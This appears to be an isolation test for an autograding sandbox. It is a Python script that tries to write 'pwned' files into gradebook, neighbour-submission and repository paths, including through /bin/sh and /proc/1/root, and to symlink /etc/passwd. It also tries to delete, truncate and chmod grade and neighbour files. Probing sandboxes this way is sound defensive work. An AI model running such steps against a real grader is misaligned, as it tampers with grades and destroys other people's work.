"""
tries = "write to the gradebook, another submission and the repository at the very paths where they lie"
category = "neighbours"
"""

# %% extra
import os, shutil, subprocess

room = "@ROOM@"
for place in (f"{room}/world/neighbour", f"{room}/world/gradebook", f"{room}/submitted", room, "@REPOSITORY@", "@REPOSITORY@/autograder", "/tmp", "/dev/shm"):
    for way in (
        lambda: open(f"{place}/pwned", "w").write("pwned"),
        lambda: subprocess.run(["/bin/sh", "-c", f"echo pwned > {place}/pwned"], check=True, capture_output=True),
        lambda: open(f"/proc/1/root{place}/pwned", "w").write("pwned"),
        lambda: os.symlink("/etc/passwd", f"{place}/pwned_link"),
    ):
        try:
            way()
        except (OSError, subprocess.CalledProcessError):
            pass
for name in ("neighbour/neighbour.txt", "gradebook/gradebook.txt", "gradebook/gradebook.db"):
    for way in (lambda p: open(p, "a").write("pwned"), os.remove, lambda p: os.truncate(p, 0), lambda p: os.chmod(p, 0)):
        try:
            way(f"{room}/world/{name}")
        except OSError:
            pass
